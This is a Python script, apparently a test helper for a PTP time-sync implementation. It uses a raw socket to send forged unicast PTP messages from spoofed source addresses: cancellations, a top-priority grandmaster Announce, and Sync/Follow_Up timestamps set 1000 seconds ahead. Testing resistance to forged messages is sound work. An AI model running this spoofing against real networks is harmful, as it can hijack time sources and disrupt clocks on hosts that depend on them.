#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Send forged unicast PTP messages over UDPv4 from any source address (a raw socket).

Usage: unicast-forge.py SRC DST CLOCK PORT COUNT RATE KIND...

From SRC (an address of this host or not: the IPv4 header is written here, so a stranger can
spoof a peer's address) to DST, as sourcePortIdentity CLOCK (16 hex digits) - PORT, COUNT rounds
at RATE rounds a second, each round one message of each KIND, unicast flag set:
  cancel-announce, cancel-sync, cancel-delay_resp  CANCEL_UNICAST_TRANSMISSION (port 320)
  announce   an Announce of grandmaster CLOCK, priority1 0, clockClass 6 (port 320)
  sync       a two-step Sync (port 319) and its Follow_Up (port 320), 1000 s ahead of now
  delay_resp a Delay_Resp to portIdentity 0...0-0 (port 320)
  delay_req  a Delay_Req (port 319)
Prints the number of messages sent. Needs CAP_NET_RAW (root in the test's namespace).
"""
import socket
import struct
import sys
import time

TYPES = {'announce': 0xB, 'sync': 0x0, 'delay_resp': 0x9}


def header(mtype, length, clock, port, seq, flags=0x0400, interval=0x7F):
    hdr = bytearray(34)
    hdr[0] = mtype
    hdr[1] = 0x02  # versionPTP 2
    struct.pack_into('>H', hdr, 2, length)
    struct.pack_into('>H', hdr, 6, flags)
    hdr[20:28] = clock
    struct.pack_into('>H', hdr, 28, port)
    struct.pack_into('>H', hdr, 30, seq & 0xFFFF)
    hdr[32] = {0x0: 0, 0x1: 1, 0x8: 2, 0x9: 3, 0xB: 5, 0xC: 5}[mtype]
    hdr[33] = interval & 0xFF
    return bytes(hdr)


def timestamp(t):
    s = int(t)
    return struct.pack('>HIL', s >> 32, s & 0xFFFFFFFF, int((t - s) * 1e9))


def cancel(what, clock, port, seq):
    tlv = struct.pack('>HHBB', 0x0006, 2, TYPES[what] << 4, 0)
    return header(0xC, 44 + len(tlv), clock, port, seq) + b'\xff' * 10 + tlv


def announce(clock, port, seq):
    body = timestamp(time.time()) + struct.pack('>hBBBBHB', 37, 0, 0, 6, 0x21, 0x4E5D, 0)
    body += clock + struct.pack('>HB', 0, 0x20)
    return header(0xB, 34 + len(body), clock, port, seq, interval=0) + body


def sync(clock, port, seq):
    t = time.time() + 1000
    s = header(0x0, 44, clock, port, seq, flags=0x0600, interval=0xFD) + bytes(10)
    f = header(0x8, 44, clock, port, seq, interval=0xFD) + timestamp(t)
    return s, f


def delay_resp(clock, port, seq):
    body = timestamp(time.time()) + bytes(10)
    return header(0x9, 54, clock, port, seq, interval=0x7F) + body


def delay_req(clock, port, seq):
    return header(0x1, 44, clock, port, seq, interval=0x7F) + bytes(10)


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('>%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def packet(src, dst, dport, payload):
    udp = struct.pack('>HHHH', dport, dport, 8 + len(payload), 0) + payload
    ip = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack('>H', checksum(ip)) + ip[12:]
    return ip + udp


def main():
    src, dst, clock_hex, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    count, rate, kinds = int(sys.argv[5]), float(sys.argv[6]), sys.argv[7:]
    clock = bytes.fromhex(clock_hex.replace('.', '').replace(':', ''))
    if len(clock) != 8 or not kinds:
        sys.exit(__doc__)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    start = time.monotonic()
    for seq in range(count):
        msgs = []
        for k in kinds:
            if k.startswith('cancel-'):
                msgs.append((320, cancel(k[7:], clock, port, seq)))
            elif k == 'announce':
                msgs.append((320, announce(clock, port, seq)))
            elif k == 'sync':
                sy, fu = sync(clock, port, seq)
                msgs += [(319, sy), (320, fu)]
            elif k == 'delay_resp':
                msgs.append((320, delay_resp(clock, port, seq)))
            elif k == 'delay_req':
                msgs.append((319, delay_req(clock, port, seq)))
            else:
                sys.exit('unknown kind ' + k)
        for dport, payload in msgs:
            s.sendto(packet(src, dst, dport, payload), (dst, 0))
            sent += 1
        delay = start + (seq + 1) / rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    print(sent)


if __name__ == '__main__':
    main()
